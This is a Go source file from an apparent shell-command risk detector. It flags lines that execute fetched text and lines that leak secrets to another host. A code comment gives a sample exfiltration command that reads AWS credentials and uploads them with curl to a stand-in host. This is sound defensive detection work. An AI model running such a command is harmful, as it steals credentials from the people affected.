package risk

import (
	"slices"
	"strings"

	"github.com/elicit-engine/elicit/engine/elicit"
	"github.com/elicit-engine/elicit/engine/impact"
	"github.com/elicit-engine/elicit/engine/internal/guarded"
)

// executes finds commands that run a fetched or decoded text, by whatever way it reaches them: curl -o a && sh a. The
// checks of commands look at words first. This finds the ways that need the reading of impacts: a file between the
// commands, a variable, a program of Python.
func (l *shellLine) executes(d *dangers, how impact.How, kind string) {
	for i := range l.impacts {
		in := &l.impacts[i]
		if in.Kind == impact.Executes && in.How == how && runsTexts(in) &&
			(how != impact.Fetched || in.Target != "") { // what a package manager executes names no host
			d.add(elicit.High, kind, l.of(in))
		}
	}
}

// runsTexts reports whether a shell, an interpreter or the system itself executes a text. A package manager has checks
// of its own. "npm install" executes what it has fetched, and make executes the project. These are no surprise to the
// person who reads the command.
func runsTexts(in *impact.Impact) bool {
	switch in.Program {
	case "eval", "source", ".", "xargs", "":
		return true
	}
	name := in.Target[strings.LastIndexByte(in.Target, '/')+1:]
	return shells.Has(in.Program) || impact.StartsShell(in.Program) || interpreter(in.Program) ||
		in.Target != "" && lowerASCII(name) == in.Program
}

// These bound the work for a hostile line.
const (
	maxFlows    = 4       // how often it is followed from its begin
	maxFollowed = 4 << 10 // bytes of a command; a longer one may have any variable
	maxNames    = 512     // in a text for an interpreter
)

// leaks finds commands that send what another command of the line has read from a file of secrets. It goes on through
// pipes, substitutions, variables and files. has says which commands hold the secret, names which variables, and files
// which files. Each round follows one more step:
//
//	x=$(cat ~/.aws/credentials); echo $x > t; curl -T t https://a.example
//
// Four rounds are enough for such a line, and bound the work: each round is linear in the commands and impacts. Any
// word with a "=" in a command that holds the secret counts as a variable that gets it, which errs on the side of a
// finding.
func (l *shellLine) leaks(d *dangers) {
	secret := l.secretReads()
	if secret == nil {
		return
	}
	has, names, files := make([]bool, len(l.commands)), map[string]bool{}, map[string]bool{}
	for range maxFlows {
		for i := range l.commands {
			c := &l.commands[i]
			if has[i] = has[i] || c.after >= 0 && has[c.after] || l.expands(c, names); !has[i] {
				continue
			}
			if c.into >= 0 {
				has[c.into] = true
			}
			// The assignment may stand in front of the command, where no word has it.
			for _, word := range append(texts(c.args), l.text[c.start:min(c.end, c.start+maxFollowed)]) {
				if at := strings.IndexByte(word, '='); at > 0 && variableName(word[:at]) {
					names[word[:at]] = true
				}
			}
		}
		for i := range l.impacts {
			switch in := &l.impacts[i]; {
			case in.Kind == impact.Reads:
				if secret[i] || files[in.Target] {
					l.mark(has, in)
				}
			case in.Kind == impact.Writes && !strings.HasPrefix(in.Target, "/dev/"):
				if at := l.of(in).at; at >= 0 && has[at] {
					files[in.Target] = true
				}
			}
		}
	}
	for i := range l.impacts {
		if in := &l.impacts[i]; in.Kind == impact.Sends {
			// tar can write to a host by itself: tar -cf host:file.
			if c := l.of(in); c.at >= 0 && has[c.at] && (sends(c) || c.program == "tar") && !c.toThisMachine() {
				d.add(elicit.High, "secret", c)
			}
		}
	}
}

// secretReads tells of each impact whether it reads a secret. It is nil if none does, or if the line sends nothing.
func (l *shellLine) secretReads() (reads []bool) {
	if !slices.ContainsFunc(l.impacts, func(in impact.Impact) bool { return in.Kind == impact.Sends }) {
		return nil
	}
	for i := range l.impacts {
		if in := &l.impacts[i]; in.Kind == impact.Reads {
			if _, kind := sensitiveImpact(in); kind == "secret" {
				if reads == nil {
					reads = make([]bool, len(l.impacts))
				}
				reads[i] = true
			}
		}
	}
	return reads
}

// mark notes that the command with the impact holds the secret. An impact of no command marks nothing.
func (l *shellLine) mark(has []bool, in *impact.Impact) {
	if at := l.of(in).at; at >= 0 {
		has[at] = true
	}
}

// expands reports whether a command has one of the variables in its words. It looks at the spelling of the command,
// because its words have a hole in the place of the variable.
func (l *shellLine) expands(c *shellCommand, names map[string]bool) bool {
	if len(names) == 0 {
		return false
	}
	text := l.text[c.start:c.end]
	if len(text) > maxFollowed {
		return true
	}
	for {
		at := strings.IndexByte(text, '$')
		if at < 0 {
			return false
		}
		text = strings.TrimPrefix(text[at+1:], "{")
		end := 0
		for end < len(text) && variableName(text[:end+1]) {
			end++
		}
		if names[text[:end]] {
			return true
		}
	}
}

func texts(words []shellWord) (list []string) {
	for i := range words {
		list = append(list, words[i].text)
	}
	return list
}

// variableName reports whether a text can be the name of a variable.
func variableName(s string) bool {
	for i := range len(s) {
		if b := s[i] | 0x20; s[i] != '_' && (b < 'a' || b > 'z') && (i == 0 || s[i] < '0' || s[i] > '9') {
			return false
		}
	}
	return s != ""
}

// code finds the files that a text for an interpreter names, and says what it seems to do with them. The text of an
// interpreter is only searched for words: a name in quotes that is a sensitive place, and a call that changes or opens
// files. It serves languages that package impact does not read, such as Ruby.
func (d *dangers) code(c *shellCommand) {
	if !interpreter(c.program) {
		return
	}
	for _, text := range append(texts(c.args), c.stdin) {
		changes, reads := holdsAny(text, changingCode), holdsAny(text, "open(|read")
		if !strings.Contains(text, "(") || !changes && !reads {
			continue
		}
		for _, name := range strings.FieldsFunc(text, func(r rune) bool { return strings.ContainsRune("'\"`(), \n;", r) }) {
			if !strings.ContainsAny(name, "./") {
				continue
			}
			if d.names++; d.names > maxNames {
				d.add(elicit.Medium, "endless", c)
				return
			}
			switch known := guarded.PlaceOf(name, true, false); {
			case known == nil:
			case changes && known.Write != "" && known.Kind != "dotfile":
				d.add(known.Write, known.Kind, c)
			case known.Read != "" && known.Read != elicit.Low:
				d.add(known.Read, "secret", c)
			}
		}
	}
}

// changingCode are parts of code that changes files.
const changingCode = `'w|"w|'a'|"a"|'a+|write|append|remove|unlink|rename|rmtree|rmSync|move(|copy|symlink|truncate`

// holdsAny reports whether a text has one of the parts, which have bars between them.
func holdsAny(text, parts string) bool {
	for part := range strings.SplitSeq(parts, "|") {
		if strings.Contains(text, part) {
			return true
		}
	}
	return false
}
